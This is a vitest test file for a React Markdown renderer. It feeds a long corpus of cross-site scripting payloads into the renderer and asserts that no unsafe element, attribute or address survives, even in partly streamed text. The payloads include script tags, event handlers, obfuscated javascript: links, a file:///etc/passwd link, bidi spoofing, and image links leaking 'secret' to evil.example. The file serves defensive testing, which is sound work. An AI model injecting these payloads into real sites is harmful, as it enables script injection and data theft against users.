import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "./markdown";

const CORPUS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=https://evil.example></iframe>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<form action=https://evil.example><input name=a></form>",
  "<object data=https://evil.example></object><embed src=x>",
  "<video src=https://evil.example/v poster=https://evil.example/p></video>",
  "<details open ontoggle=alert(1)>x</details>",
  "<a href='javascript:alert(1)'>x</a>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "text <b onmouseover=alert(1)>bold</b> text",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;&#x61;vascript&#58;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](ftp://evil.example)",
  "[x](//evil.example/x)",
  "[x](/settings)",
  "[x](https://user:secret@evil.example/)",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "[ref]\n\n[ref]: <data:text/html,x>",
  "![x][ref]\n\n[ref]: https://evil.example/leak?q=secret",
  "![x](https://evil.example/leak.png?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](javascript:alert(1))",
  '![x](x"onerror="alert(1))',
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "<javascript:alert(1)>",
  '<https://example.org/"onclick=alert(1)>',
  "https://example.org/<script>alert(1)</script>",
  '[x](https://example.org "t\\" onclick=alert(1)")',
  "```html\n<script>alert(1)</script>\n```",
  "```\n<script>alert(1)</script>",
  '```"><script>alert(1)</script>\nx',
  "~~~js onload=alert(1)\nalert(1)",
  "`<img src=x onerror=alert(1)>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "| [x](javascript:alert(1)) |\n|---|\n",
  "- <script>alert(1)</script>\n  - <iframe>",
  "> <svg onload=alert(1)>",
  "# <script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "admin\u202e gnp.exe\u202c [x\u202e](https://example.org)",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "**<script>**alert(1)</script>",
  "$\\href{javascript:alert(1)}{x}$",
];

const ELEMENTS = new Set(
  "a article b blockquote br button code dd del div dl dt em h3 h4 h5 hr i li ol p path pre rect span strong svg table tbody td th thead tr ul".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "href title target rel referrerPolicy referrerpolicy class dir tabindex type role aria-label aria-hidden aria-pressed data-live start width height viewBox fill stroke stroke-width stroke-linecap stroke-linejoin d rx ry x y xmlns".split(
    " ",
  ),
);

/** What is wrong with rendered HTML. Text is escaped there, so that every `<` begins an element. */
function faults(html: string): string[] {
  const found: string[] = [];
  const elements = [...html.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g)];
  if (elements.length !== [...html.matchAll(/<[a-zA-Z!?]/g)].length)
    found.push("an element that cannot be read");
  for (const [, name = "", attributes = ""] of elements) {
    if (!ELEMENTS.has(name)) found.push(`element ${name}`);
    for (const [, attribute = "", value = ""] of attributes.matchAll(/([\w:-]+)(?:="([^"]*)")?/g)) {
      if (!ATTRIBUTES.has(attribute)) found.push(`attribute ${attribute}`);
      if (attribute === "href" && !/^(?:https?:\/\/|mailto:)/.test(value)) found.push(`address ${value}`);
    }
  }
  if (/[\u202a-\u202e\u2066-\u2069]/.test(html)) found.push("direction control");
  return found;
}

const render = (text: string, streaming: boolean) =>
  renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);

test("[S33] hostile text yields no forbidden element or attribute, however it is cut", () => {
  for (const text of CORPUS) {
    expect(faults(render(text, false)), text).toEqual([]);
    for (let end = 1; end <= text.length; end++) {
      expect(faults(render(text.slice(0, end), true)), text.slice(0, end)).toEqual([]);
    }
  }
});

test("[S33] raw HTML is shown as text", () => {
  expect(render("<b>hi</b>", false)).toContain("&lt;b&gt;");
});

test("[S34] images are named and never fetched", () => {
  const html = render("![plan](https://example.org/a.png)", false);
  expect(html).not.toContain("<img");
  expect(html).toContain("example.org");
});

test("[S35] links open elsewhere without a referrer and show their host", () => {
  const html = render("[the plan](https://example.org/a?b=1&amp;c=2)", false);
  expect(html).toContain('rel="noopener noreferrer nofollow"');
  expect(html).toContain('target="_blank"');
  expect(html).toContain(">example.org<");
  expect(html).toContain('href="https://example.org/a?b=1&amp;c=2"');
});

test("unfinished marks are not seen while a text streams", () => {
  const shown = (text: string) => render(text, true).replace(/<[^>]*>/g, "");
  expect(shown("see **the pl")).toBe("see the pl");
  expect(shown("see **")).toBe("see");
  expect(shown("see [the plan](https://exam")).toBe("see the plan");
  expect(shown("a\n\n```sql\nselect")).toContain("select");
  expect(shown("| Region | Mar")).toBe("RegionMar");
  expect(render("| Region | Mar", true)).toContain("<th");
  expect(shown("- one\n- **tw")).toBe("onetw");
});

test("character references are read in prose and left alone in code", () => {
  expect(render("a &amp; b &#8364; &copy; &unknown;", false)).toContain("a &amp; b € © &amp;unknown;");
  expect(render("`&amp;`", false)).toContain("&amp;amp;");
});
